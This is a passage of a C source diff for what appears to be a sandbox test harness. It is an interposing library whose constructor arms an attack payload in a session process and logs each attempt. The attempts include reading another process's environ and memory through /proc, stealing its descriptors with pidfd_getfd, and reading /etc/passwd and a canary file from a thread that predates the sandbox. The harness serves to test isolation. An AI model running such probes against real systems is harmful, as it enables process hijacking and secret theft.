+    s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    step("socket(AF_INET, SOCK_DGRAM)", s, errno, NULL);
+    if (s >= 0) close(s);
+    errno = 0;
+    s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    step("socket(AF_UNIX)", s, errno, NULL);
+    if (s >= 0) close(s);
+    errno = 0;
+    s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 0);
+    step("socket(AF_NETLINK)", s, errno, NULL);
+    if (s >= 0) close(s);
+    int sv[2];
+    STEP("socketpair(AF_UNIX)", socketpair(AF_UNIX, SOCK_STREAM, 0, sv));
+    /* Other processes through /proc. */
+    DIR *d = opendir("/proc");
+    if (!d) step("list processes via /proc", -1, errno, NULL);
+    else {
+        int procs = 0, sessions = 0, others = 0;
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            pid_t p = atoi(e->d_name);
+            if (p <= 0) continue;
+            procs++;
+            if (p != getpid()) {
+                char path[64], b[16];
+                snprintf(path, sizeof path, "/proc/%d/cmdline", (int)p);
+                if (read_file(path, b, sizeof b) >= 0) others++;
+                if (cmdline_has(p, "--session-child")) sessions++;
+            }
+        }
+        closedir(d);
+        char detail[128];
+        snprintf(detail, sizeof detail, "%d pids, %d other cmdlines readable, %d other sessions", procs, others, sessions);
+        step("list processes via /proc", others > 0 ? 0 : -1, EACCES, detail);
+    }
+    char path[64], buf[65536];
+    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)front);
+    errno = 0;
+    step("read the front's /proc/<pid>/cmdline", read_file(path, buf, sizeof buf), errno, NULL);
+    snprintf(path, sizeof path, "/proc/%d/environ", (int)front);
+    errno = 0;
+    step("read the front's /proc/<pid>/environ", read_file(path, buf, sizeof buf), errno, NULL);
+    snprintf(path, sizeof path, "/proc/%d/mem", (int)front);
+    errno = 0;
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    step("open the front's /proc/<pid>/mem", fd, errno, NULL);
+    if (fd >= 0) close(fd);
+    /* Take the front's descriptors (its listening socket among them). */
+    errno = 0;
+    int pfd = (int)syscall(SYS_pidfd_open, front, 0);
+    if (pfd < 0) step("pidfd_getfd: copy the front's descriptors", -1, errno, "pidfd_open");
+    else {
+        int got = 0, listening = 0, e = 0;
+        for (int t = 0; t < 256; t++) {
+            int nfd = (int)syscall(SYS_pidfd_getfd, pfd, t, 0);
+            if (nfd < 0) { if (errno != EBADF) e = errno; continue; }
+            got++;
+            int acc = 0;
+            socklen_t l = sizeof acc;
+            if (getsockopt(nfd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &l) == 0 && acc) listening++;
+            close(nfd);
+        }
+        char detail[96];
+        snprintf(detail, sizeof detail, "%d descriptors, %d listening sockets", got, listening);
+        step("pidfd_getfd: copy the front's descriptors", got ? 0 : -1, e ? e : EBADF, detail);
+        close(pfd);
+    }
+    snprintf(path, sizeof path, "/proc/%d/fd/0", (int)front);
+    errno = 0;
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    step("reopen the front's fd 0 through /proc/<pid>/fd", fd, errno, NULL);
+    if (fd >= 0) close(fd);
+}
+
+/* The thread case: a thread that predates the sandbox. */
+static void thread_attacks(void) {
+    const char *canary = getenv("RPC_ATTACK_CANARY");
+    char buf[4096];
+    errno = 0;
+    step("read /etc/passwd from a thread started before the sandbox", read_file("/etc/passwd", buf, sizeof buf), errno, NULL);
+    if (canary) {
+        errno = 0;
+        step("read the canary from that thread", read_file(canary, buf, sizeof buf), errno, NULL);
+        errno = 0;
+        int fd = open(canary, O_WRONLY | O_APPEND | O_CLOEXEC);
+        step("open the canary for writing from that thread", fd, errno, NULL);
+        if (fd >= 0) close(fd);
+    }
+    char path[128];
+    snprintf(path, sizeof path, "/tmp/rpc-attack-thread-%d", (int)getpid());
+    errno = 0;
+    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
+    step("create a file in /tmp from that thread", fd, errno, NULL);
+    if (fd >= 0) { close(fd); unlink(path); }
+    errno = 0;
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    step("socket() from that thread", s, errno, NULL);
+    if (s >= 0) close(s);
+}
+
+static void *thread_main(void *arg) {
+    (void)arg;
+    in_payload = 1;
+    struct timespec ts = {0, 10 * 1000 * 1000};
+    double t0 = now_s();
+    while (!sandbox_up()) {
+        if (now_s() - t0 > 120) {
+            say("ATTACK-INFO thread the sandbox never came up on this thread within 120 s");
+            say("ATTACK-END thread");
+            return NULL;
+        }
+        syscall(SYS_nanosleep, &ts, NULL);
+    }
+    say("ATTACK-BEGIN thread");
+    thread_attacks();
+    say("ATTACK-END thread");
+    return NULL;
+}
+
+static void run_case(void) {
+    say("ATTACK-BEGIN %s", attack_case);
+    if (!strcmp(attack_case, "signal")) case_signal();
+    else if (!strcmp(attack_case, "cache")) case_cache();
+    else if (!strcmp(attack_case, "symlink")) case_symlink();
+    else if (!strcmp(attack_case, "terminal")) case_terminal();
+    else if (!strcmp(attack_case, "chmod")) case_chmod();
+    else if (!strcmp(attack_case, "flood")) case_flood();
+    else if (!strcmp(attack_case, "memory")) case_memory();
+    else if (!strcmp(attack_case, "devices")) case_devices();
+    else if (!strcmp(attack_case, "net")) case_net();
+    else say("ATTACK-INFO %s unknown case", attack_case);
+    say("ATTACK-END %s", attack_case);
+}
+
+static double first_call;
+
+static void maybe_attack(void) {
+    if (!attacker || in_payload || atomic_load(&fired)) return;
+    in_payload = 1;
+    int up = sandbox_up();
+    if (!up) {
+        /* A server whose sandbox never comes up still gets attacked (after 10 s), and says so. */
+        if (first_call == 0) first_call = now_s();
+        else if (now_s() - first_call > 10) up = 2;
+    }
+    if (up) {
+        int expect = 0;
+        if (atomic_compare_exchange_strong(&fired, &expect, 1)) {
+            if (up == 2) say("ATTACK-INFO %s no system-call filter on this thread after 10 s; attacking anyway", attack_case);
+            run_case();
+        }
+    }
+    in_payload = 0;
+}
+
+__attribute__((constructor)) static void payload_init(void) {
+    const char *c = getenv("RPC_ATTACK");
+    if (!c || !*c || !is_session_child() || !peer_is_attacker()) return;
+    attack_case = c;
+    attacker = 1;
+    say("ATTACK-INFO %s payload armed in session process %d", attack_case, (int)getpid());
+    if (!strcmp(c, "thread")) {
+        atomic_store(&fired, 1); /* the hooks do nothing; the thread acts */
+        pthread_t t;
+        pthread_attr_t a;
+        pthread_attr_init(&a);
+        pthread_attr_setdetachstate(&a, PTHREAD_CREATE_DETACHED);
+        if (pthread_create(&t, &a, thread_main, NULL) != 0)
+            say("ATTACK-INFO thread cannot start the thread");
+    }
+}
+
+/* ---------- interposed calls ---------- */
+
+#define REAL(ret, name, ...)                                       \
+    static ret (*real_##name)(__VA_ARGS__);                        \
+    if (!real_##name) real_##name = (ret(*)(__VA_ARGS__))dlsym(RTLD_NEXT, #name)
+
+ssize_t write(int fd, const void *b, size_t n) {
+    REAL(ssize_t, write, int, const void *, size_t);
+    maybe_attack();
+    return real_write(fd, b, n);
+}
+ssize_t writev(int fd, const struct iovec *v, int c) {
+    REAL(ssize_t, writev, int, const struct iovec *, int);
+    maybe_attack();
+    return real_writev(fd, v, c);
+}
+ssize_t read(int fd, void *b, size_t n) {
+    REAL(ssize_t, read, int, void *, size_t);
+    maybe_attack();
+    return real_read(fd, b, n);
+}
+ssize_t send(int fd, const void *b, size_t n, int f) {
+    REAL(ssize_t, send, int, const void *, size_t, int);
+    maybe_attack();
+    return real_send(fd, b, n, f);
+}
+ssize_t sendto(int fd, const void *b, size_t n, int f, const struct sockaddr *a, socklen_t l) {
+    REAL(ssize_t, sendto, int, const void *, size_t, int, const struct sockaddr *, socklen_t);
+    maybe_attack();
+    return real_sendto(fd, b, n, f, a, l);
+}
+ssize_t sendmsg(int fd, const struct msghdr *m, int f) {
+    REAL(ssize_t, sendmsg, int, const struct msghdr *, int);
+    maybe_attack();
+    return real_sendmsg(fd, m, f);
+}
+ssize_t recv(int fd, void *b, size_t n, int f) {
+    REAL(ssize_t, recv, int, void *, size_t, int);
+    maybe_attack();
+    return real_recv(fd, b, n, f);
+}
+ssize_t recvfrom(int fd, void *b, size_t n, int f, struct sockaddr *a, socklen_t *l) {
+    REAL(ssize_t, recvfrom, int, void *, size_t, int, struct sockaddr *, socklen_t *);
+    maybe_attack();
+    return real_recvfrom(fd, b, n, f, a, l);
+}
+ssize_t recvmsg(int fd, struct msghdr *m, int f) {
+    REAL(ssize_t, recvmsg, int, struct msghdr *, int);
+    maybe_attack();
+    return real_recvmsg(fd, m, f);
+}
+int poll(struct pollfd *p, nfds_t n, int t) {
+    REAL(int, poll, struct pollfd *, nfds_t, int);
+    maybe_attack();
+    return real_poll(p, n, t);
+}
+int epoll_wait(int e, struct epoll_event *ev, int n, int t) {
+    REAL(int, epoll_wait, int, struct epoll_event *, int, int);
+    maybe_attack();
+    return real_epoll_wait(e, ev, n, t);
+}
+int nanosleep(const struct timespec *a, struct timespec *b) {
+    REAL(int, nanosleep, const struct timespec *, struct timespec *);
+    maybe_attack();
+    return real_nanosleep(a, b);
+}
+int clock_nanosleep(clockid_t c, int f, const struct timespec *a, struct timespec *b) {
+    REAL(int, clock_nanosleep, clockid_t, int, const struct timespec *, struct timespec *);
+    maybe_attack();
+    return real_clock_nanosleep(c, f, a, b);
+}
